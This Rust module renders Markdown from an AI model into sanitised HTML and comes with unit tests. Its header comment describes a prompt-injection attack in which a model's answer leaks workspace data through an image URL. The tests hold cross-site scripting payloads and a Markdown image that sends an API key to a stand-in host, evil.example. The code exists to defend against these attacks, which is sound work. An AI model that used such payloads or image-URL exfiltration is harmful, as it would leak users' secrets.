//! Markdown from the model, rendered to HTML that is safe to insert: raw HTML in the source is shown
//! as text, and the output goes through `ammonia`, which drops scripts, event handlers and
//! `javascript:` links. Images are never fetched from elsewhere: a prompt-injected answer could put
//! workspace contents into an image URL, so a non-inline image becomes a link that names its host
//! (`[image: alt — from evil.example]`); only inline `data:` raster images are shown. A fenced code
//! block is highlighted (`code_highlight`: classed spans around escaped text) when its language is
//! known. Runs on the server only: the browser receives the HTML.

use std::borrow::Cow;

use pulldown_cmark::{html, CodeBlockKind, CowStr, Event, LinkType, Options, Parser, Tag, TagEnd};

use crate::code_highlight::{self, CLASS_PREFIX};

/// Inline images shown as images; anything else (SVG can carry script) is not.
const SHOWN_DATA_IMAGES: &[&str] =
    &["data:image/png;base64,", "data:image/gif;base64,", "data:image/jpeg;base64,", "data:image/webp;base64,"];

/// Renders untrusted Markdown to sanitised HTML.
pub fn render(markdown: &str) -> String {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut images = ImageRewriter::default();
    let mut code = CodeBlocks::default();
    let events = Parser::new_ext(markdown, options)
        .map(|event| match event {
            // Show what the model wrote instead of letting it become markup.
            Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
            other => other,
        })
        .flat_map(|event| images.rewrite(event))
        .flat_map(|event| code.rewrite(event));
    let mut unsafe_html = String::with_capacity(markdown.len() * 3 / 2);
    html::push_html(&mut unsafe_html, events);
    sanitise(&unsafe_html)
}

/// What may reach the page of the HTML rendered above: no script, handler or `javascript:`, `data:`
/// only for inline raster images, and classes only as the highlighter and the code fences write them.
fn sanitise(unsafe_html: &str) -> String {
    ammonia::Builder::default()
        .link_rel(Some("noopener noreferrer nofollow"))
        .add_url_schemes(["data"])
        // Highlighted code: spans whose classes are all the highlighter's.
        .add_tag_attributes("span", ["class"])
        .add_tag_attributes("code", ["class"])
        .attribute_filter(|element, attribute, value| {
            let is_data = value.trim_start().get(..5).is_some_and(|s| s.eq_ignore_ascii_case("data:"));
            match (element, attribute) {
                ("span", "class") if value.split_whitespace().all(|c| c.starts_with(CLASS_PREFIX)) => {
                    Some(Cow::Borrowed(value))
                }
                ("code", "class") if value.starts_with("language-") && !value.contains(char::is_whitespace) => {
                    Some(Cow::Borrowed(value))
                }
                ("span" | "code", "class") => None,
                // `data:` is allowed above for inline images only: not in links, not other media types.
                ("img", "src") if is_shown_data_image(value) => Some(Cow::Borrowed(value)),
                ("img", "src") => None,
                _ if is_data => None,
                _ => Some(Cow::Borrowed(value)),
            }
        })
        .clean(unsafe_html)
        .to_string()
}

fn is_shown_data_image(url: &str) -> bool {
    SHOWN_DATA_IMAGES.iter().any(|prefix| url.get(..prefix.len()).is_some_and(|p| p.eq_ignore_ascii_case(prefix)))
}

/// Collects each fenced code block and puts it out highlighted when its language is known (else as
/// pulldown-cmark would, escaped).
#[derive(Default)]
struct CodeBlocks {
    /// The open block's language and text so far.
    open: Option<(String, String)>,
}

impl CodeBlocks {
    fn rewrite<'a>(&mut self, event: Event<'a>) -> Vec<Event<'a>> {
        match (&mut self.open, event) {
            (None, Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(language)))) if !language.trim().is_empty() => {
                self.open = Some((language.split_whitespace().next().unwrap_or_default().to_string(), String::new()));
                vec![]
            }
            (Some((_, text)), Event::Text(more)) => {
                text.push_str(&more);
                vec![]
            }
            (Some(_), Event::End(TagEnd::CodeBlock)) => {
                let (language, text) = self.open.take().unwrap_or_default();
                match code_highlight::highlight(&text, Some(&language)) {
                    Some(highlighted) => {
                        let class: String = language
                            .chars()
                            .filter(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '+' | '#' | '_'))
                            .collect();
                        let html = format!("<pre><code class=\"language-{class}\">{}</code></pre>\n", highlighted.html);
                        vec![Event::Html(CowStr::from(html))]
                    }
                    None => vec![
                        Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(CowStr::from(language)))),
                        Event::Text(CowStr::from(text)),
                        Event::End(TagEnd::CodeBlock),
                    ],
                }
            }
            (_, other) => vec![other],
        }
    }
}

/// Turns image events into a link (or, inside a link, plain text) that says where the image is.
#[derive(Default)]
struct ImageRewriter {
    /// Open links around the current event: a link inside a link is not valid HTML.
    link_depth: usize,
    /// For each open image: whether it became a link (true) or plain text (false); `None` when kept.
    open_images: Vec<Option<(bool, String)>>,
}

impl ImageRewriter {
    fn rewrite<'a>(&mut self, event: Event<'a>) -> Vec<Event<'a>> {
        match event {
            Event::Start(Tag::Link { .. }) => {
                self.link_depth += 1;
                vec![event]
            }
            Event::End(TagEnd::Link) => {
                self.link_depth = self.link_depth.saturating_sub(1);
                vec![event]
            }
            Event::Start(Tag::Image { dest_url, title, id, link_type }) => {
                if is_shown_data_image(&dest_url) {
                    self.open_images.push(None);
                    return vec![Event::Start(Tag::Image { dest_url, title, id, link_type })];
                }
                let source = describe_source(&dest_url);
                let prefix = Event::Text(CowStr::from("[image: "));
                let clickable =
                    self.link_depth == 0 && !dest_url.trim_start().to_ascii_lowercase().starts_with("data:");
                self.open_images.push(Some((clickable, source)));
                if clickable {
                    self.link_depth += 1;
                    let link = Tag::Link { link_type: LinkType::Inline, dest_url, title, id: CowStr::from("") };
                    vec![Event::Start(link), prefix]
                } else {
                    vec![prefix]
                }
            }
            Event::End(TagEnd::Image) => match self.open_images.pop().flatten() {
                None => vec![event],
                Some((clickable, source)) => {
                    let suffix = Event::Text(CowStr::from(format!(" — {source}]")));
                    if clickable {
                        self.link_depth = self.link_depth.saturating_sub(1);
                        vec![suffix, Event::End(TagEnd::Link)]
                    } else {
                        vec![suffix]
                    }
                }
            },
            other => vec![other],
        }
    }
}

/// "from <host>" for an absolute URL, else what kind of source it is.
fn describe_source(url: &str) -> String {
    let url = url.trim();
    if url.get(..5).is_some_and(|s| s.eq_ignore_ascii_case("data:")) {
        return "inline data not shown".to_string();
    }
    let after_scheme = match url.split_once("://") {
        Some((scheme, rest))
            if !scheme.is_empty() && scheme.chars().all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c)) =>
        {
            Some(rest)
        }
        _ => url.strip_prefix("//"),
    };
    match after_scheme {
        Some(rest) => {
            let authority = rest.split(['/', '?', '#', '\\']).next().unwrap_or("");
            let host = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
            if host.is_empty() {
                "from an unnamed host".to_string()
            } else {
                format!("from {host}")
            }
        }
        None => "not loaded".to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::{render, sanitise};

    #[test]
    fn code_blocks_and_emphasis_survive() {
        let html = render("Hello *world*\n\n```rust\nfn main() {}\n```");
        assert!(html.contains("<em>world</em>"), "{html}");
        assert!(html.contains(r#"<pre><code class="language-rust">"#), "{html}");
        assert!(html.contains(r#"<span class="hl-keyword">fn</span>"#), "{html}");
    }

    #[test]
    fn a_code_block_stays_text_highlighted_or_not() {
        let hostile = "```html\n</code></pre><script>alert(1)</script><img src=x onerror=alert(2)>\n```\n\n\
                       ```no-such-language\n<b>bold?</b>\n```\n\n```\n<i>plain</i>\n```";
        let html = render(hostile);
        let allowed =
            ["<pre>", "</pre>", "<code>", "<code class=\"language-", "</code>", "<span class=\"hl-", "</span>"];
        for (at, _) in html.match_indices('<') {
            assert!(allowed.iter().any(|tag| html[at..].starts_with(tag)), "{}", &html[at..]);
        }
        assert!(html.contains("&lt;b&gt;bold?&lt;/b&gt;") && html.contains("&lt;i&gt;plain"), "{html}");
        assert_eq!(html.matches("<pre>").count(), 3, "{html}");
    }

    #[test]
    fn only_the_highlighters_classes_are_kept() {
        // The filter itself, on HTML the renderer never writes but a bug in it might.
        let kept = sanitise(r#"<pre><code class="language-js"><span class="hl-keyword hl-js">let</span></code></pre>"#);
        assert!(kept.contains(r#"<code class="language-js"><span class="hl-keyword hl-js">"#), "{kept}");
        for dirty in [
            r#"<span class="hl-keyword approve-button">x</span>"#,
            r#"<span class="visually-hidden">x</span>"#,
            r#"<code class="language-js error">x</code>"#,
            r#"<p class="approval-card">x</p>"#,
        ] {
            let cleaned = sanitise(dirty);
            assert!(!cleaned.contains("class="), "{dirty} kept a class: {cleaned}");
        }
        // What the highlighter writes for a real block passes.
        assert!(render("```js\nlet a = 1;\n```").contains(r#"<span class="hl-"#));
    }

    #[test]
    fn raw_html_is_shown_as_text_not_run() {
        let html = render("look <img src=x onerror=alert(1)> here <script>alert(2)</script>");
        assert!(!html.contains("<img"), "{html}");
        assert!(!html.contains("<script"), "{html}");
        assert!(html.contains("&lt;img"), "{html}");
    }

    #[test]
    fn javascript_links_lose_their_href() {
        let html = render("[click](javascript:alert(1)) and <a href=\"javascript:alert(2)\">x</a>");
        assert!(html.contains("<a rel=\"noopener noreferrer nofollow\">click</a>"), "{html}");
        // The raw anchor is shown as text, not as a link.
        assert!(!html.contains("<a href"), "{html}");
    }

    #[test]
    fn ordinary_links_are_kept_with_a_safe_rel() {
        let html = render("[docs](https://example.com/docs)");
        assert!(html.contains("href=\"https://example.com/docs\""), "{html}");
        assert!(html.contains("noopener"), "{html}");
    }

    #[test]
    fn a_remote_image_becomes_a_link_naming_its_host_and_no_img_is_emitted() {
        let html = render("see ![secret chart](http://evil.example:8080/leak?data=API_KEY \"t\") here");
        assert!(!html.contains("<img"), "{html}");
        assert!(html.contains("href=\"http://evil.example:8080/leak?data=API_KEY\""), "{html}");
        assert!(html.contains("[image: secret chart — from evil.example:8080]"), "{html}");
    }

    #[test]
    fn every_kind_of_non_inline_image_is_not_loaded() {
        let cases = [
            "![a](https://user:pw@evil.example/x.png)",
            "![a](//evil.example/x.png)",
            "![a][r]\n\n[r]: http://evil.example/ref.png",
            "![a](/api/threads)",
            "![a](x.png)",
            "![a](data:image/svg+xml;base64,PHN2Zz4=)",
            "[![inner](http://evil.example/i.png)](https://ok.example/)",
            "![outer ![inner](http://evil.example/i.png)](http://evil.example/o.png)",
        ];
        for case in cases {
            let html = render(case);
            assert!(!html.contains("<img"), "{case}: {html}");
            assert!(html.contains("[image: "), "{case}: {html}");
            assert!(
                !html.contains("<a href=\"https://ok.example/\" rel=\"noopener noreferrer nofollow\"><a"),
                "{case}: {html}"
            );
        }
        assert!(render("![a](//evil.example/x.png)").contains("from evil.example]"));
        assert!(render("![a](https://user:pw@evil.example/x.png)").contains("from evil.example]"));
        assert!(render("![a](data:image/svg+xml;base64,PHN2Zz4=)").contains("inline data not shown"));
    }

    #[test]
    fn inline_raster_images_are_shown_and_data_links_are_not() {
        let html = render("![dot](data:image/png;base64,iVBORw0KGgo=)");
        assert!(html.contains("<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"dot\">"), "{html}");
        let html = render("[open](data:text/html;base64,PHNjcmlwdD4=)");
        assert!(!html.contains("href"), "{html}");
    }
}
